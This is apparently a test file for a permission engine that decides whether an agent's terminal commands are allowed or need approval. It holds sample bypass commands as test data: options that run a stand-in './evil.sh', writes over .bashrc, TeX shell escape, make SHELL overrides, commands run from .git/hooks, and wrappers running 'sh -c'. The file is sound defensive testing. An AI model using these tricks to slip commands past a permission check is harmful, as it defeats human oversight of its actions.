        ['gradle test', 'gradle test --offline --parallel'],
        // Gradle's parser takes a whole long name after one dash before its first letter.
        ['gradle test', 'gradle test -parallel -continue -configure-on-demand'],
        ['gradlew build', 'gradlew build -profile -continuous'],
        ['gradle test', 'gradle test -Dorg.gradle.parallel=true -Dtest.single=Spec'],
        ['gradle test', 'gradle test -PskipChecks=true -Pprofile=ci'],
        ['gradle test', 'gradle test --tests com.example.SpecTest -i --scan'],
        ['gradle test', 'gradle test -x check --continue'],
        ['gradlew', 'gradlew build -q --stacktrace'],
      ],
    );
  });

  it('a prefix rule that itself ends in an option that runs code or writes covers nothing past its words: the next word is what runs', async () => {
    for (const [token, line] of [
      ['rg --pre', 'rg --pre ./evil.sh x'],
      ['git -c', 'git -c core.pager=./evil.sh log'],
      ['go test -toolexec', 'go test -toolexec ./evil ./...'],
      ['scp -S', 'scp -S ./evil a b:'],
      ['tar -I', 'tar -I ./evil -xf a.tar'],
      ['sort -o', 'sort -o .bashrc x'],
      ['tcpdump -i eth0 -w', 'tcpdump -i eth0 -w .bashrc'],
      ['ssh-keygen -vD', 'ssh-keygen -vD ./pkcs11.so'],
      ['nmap --script', 'nmap --script ./x.nse host'],
      ['pandoc --filter', 'pandoc --filter ./evil.sh x.md'],
      ['openssl req -engine', 'openssl req -engine ./x.so -new'],
      ['nix eval --option', 'nix eval --option allow-unsafe-native-code-during-evaluation true --expr x'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    // A rule that names the option's value covers what a call adds after it.
    for (const [token, line] of [
      ['rg --pre ./decode.sh', 'rg --pre ./decode.sh TODO src'],
      ['rg --pre=./decode.sh', 'rg --pre=./decode.sh TODO'],
      ['rg --pre', 'rg --pre'],
      ['pandoc --filter ./f.sh', 'pandoc --filter ./f.sh x.md'],
      ['pandoc -s', 'pandoc -s x.md -o x.html'],
      ['openssl req -new', 'openssl req -new -key k.pem'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
  });

  it('texlua and texluajit are exact-only, and mise, rtx and micromamba read the folder they run in', async () => {
    for (const name of ['texlua', 'texluajit']) {
      expect(isExactOnlyCommand(name), name).toBe(true);
      expect(await decided(`${name} x.lua`, [{ ...prefix('ls'), match: { kind: 'command-prefix', tokens: [name], exact: false } }]), name).toBe('ask');
    }
    // `mise run test` runs the task mise.toml in the folder it runs in names, as `just test` its justfile's.
    for (const [token, line] of [
      ['mise run test', 'cd .git/hooks && mise run test'],
      ['rtx run test', 'cd .git/hooks && rtx run test'],
      ['micromamba run -n x pytest', 'cd .git/hooks && micromamba run -n x pytest'],
    ] as const) {
      expect(await decided(line, [prefix(token), prefix('cd')]), line).toBe('ask');
      expect(await decided(line.replace('cd .git/hooks && ', ''), [prefix(token), prefix('cd')]), line).toBe('allow');
    }
  });

  it('make under the names of its builds and forks is judged as make, and its kin as project runners', async () => {
    for (const name of ['gmake', 'remake', 'colormake', 'bmake', 'pmake']) {
      const rules = [prefix(`${name} test`), prefix('cd')];
      for (const line of [`${name} test --eval=x`, `${name} test SHELL=/tmp/x`, `${name} test -f /tmp/Makefile`, `${name} test deploy`, `cd .git/hooks && ${name} test`, `echo x | ${name} test`]) {
        expect(await decided(line, rules), line).toBe('ask');
      }
      expect(await decided(`${name} test -j4`, rules), name).toBe('allow');
      expect(await decided(`${name} test`, [prefix('make', { effect: 'deny' })]), name).toBe('deny');
    }
    for (const name of ['samu', 'mk', 'scons']) {
      const rules = [prefix(name), prefix('cd')];
      for (const line of [`cd .git/hooks && ${name}`, `echo x | ${name}`]) expect(await decided(line, rules), line).toBe('ask');
      expect(await decided(name, rules), name).toBe('allow');
    }
  });

  it('a prefix rule for a TeX engine covers no call given its shell escape or Lua, as deny rules read them', async () => {
    // \write18 in a document a call wrote runs a shell command with the shell escape on.
    for (const [token, line] of [
      ['pdflatex', 'pdflatex -shell-escape x.tex'],
      ['pdflatex', 'pdflatex --shell-escape x.tex'],
      ['pdflatex', 'pdflatex -shell-e x.tex'],
      ['xelatex', 'xelatex -enable-write18 x.tex'],
      ['lualatex', 'lualatex --lua=x.lua x.tex'],
      ['luatex', 'luatex --luaonly x.lua'],
      ['pdftex', "pdftex --cnf-line=shell_escape=t x.tex"],
      ['pdflatex x.tex', 'pdflatex x.tex -shell-escape'],
      ['pdflatex', 'pdflatex $X x.tex'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const line of ['pdflatex x.tex', 'pdflatex -interaction=nonstopmode x.tex', 'pdflatex -no-shell-escape x.tex']) {
      expect(await decided(line, [prefix('pdflatex')]), line).toBe('allow');
    }
  });

  it('a prefix rule for a program that runs the command its words name covers nothing it runs, and the schema refuses one', async () => {
    // Each ran the line under a prefix rule for its name alone: wrappers, session keepers, job launchers, terminals.
    for (const [token, line] of [
      ['kitty', "kitty sh -c 'touch x'"],
      ['dtach', "dtach -n s sh -c 'touch x'"],
      ['watchexec', "watchexec -- sh -c 'touch x'"],
      ['pee', "pee 'touch x'"],
      ['zellij', "zellij run -- sh -c 'touch x'"],
      ['mpirun', "mpirun -n 1 sh -c 'touch x'"],
      ['retry', "retry -- sh -c 'touch x'"],
      ['sbatch', "sbatch --wrap 'touch x'"],
      ['systemd-nspawn', "systemd-nspawn -D root sh -c 'touch x'"],
      ['wine', 'wine cmd /c del x'],
      ['ansible', "ansible localhost -m shell -a 'touch x'"],
    ] as const) {
      const stored = { ...prefix('ls'), match: { kind: 'command-prefix' as const, tokens: [token], exact: false } };
      expect(await decided(line, [stored]), line).toBe('ask');
      const draft = { effect: 'allow', tool: 'terminal', match: stored.match, scope: { kind: 'global' }, source: 'user' };
      expect(ruleDraftSchema.safeParse(draft).success, token).toBe(false);
    }
  });

  it('a prefix rule for a shell, an interpreter run with a script or a user-switching wrapper covers nothing it runs, and the schema refuses one', async () => {
    // Each ran the line under a prefix rule for its name alone, as `bash -c …` would not.
    for (const [token, line] of [
      ['yash', "yash -c 'touch x'"],
      ['oksh', "oksh -c 'touch x'"],
      ['loksh', "loksh -c 'touch x'"],
      ['posh', "posh -c 'touch x'"],
      ['rc', "rc -c 'touch x'"],
      ['es', "es -c 'touch x'"],
      ['nu', "nu -c 'touch x'"],
      ['elvish', "elvish -c 'touch x'"],
      ['xonsh', "xonsh -c 'touch x'"],
      ['octave', "octave --eval 'system(\"touch x\")'"],
      ['racket', "racket -e '(system \"touch x\")'"],
      ['elixir', "elixir -e 'System.cmd(\"touch\", [\"x\"])'"],
      ['swipl', "swipl -g 'shell(\"touch x\")' -t halt"],
      ['sbcl', "sbcl --eval '(run-program \"/bin/touch\" (list \"x\"))'"],
      ['raku', "raku -e 'shell \"touch x\"'"],
      ['gosu', "gosu nobody sh -c 'touch x'"],
      ['su-exec', "su-exec nobody sh -c 'touch x'"],
    ] as const) {
      const stored = { ...prefix('ls'), match: { kind: 'command-prefix' as const, tokens: [token], exact: false } };
      expect(await decided(line, [stored]), line).toBe('ask');
      const draft = { effect: 'allow', tool: 'terminal', match: stored.match, scope: { kind: 'global' }, source: 'user' };
      expect(ruleDraftSchema.safeParse(draft).success, token).toBe(false);
      expect(await decided(`${token} x`, [prefix(`${token} x`, { exact: true })]), token).toBe('allow');
    }
  });
});

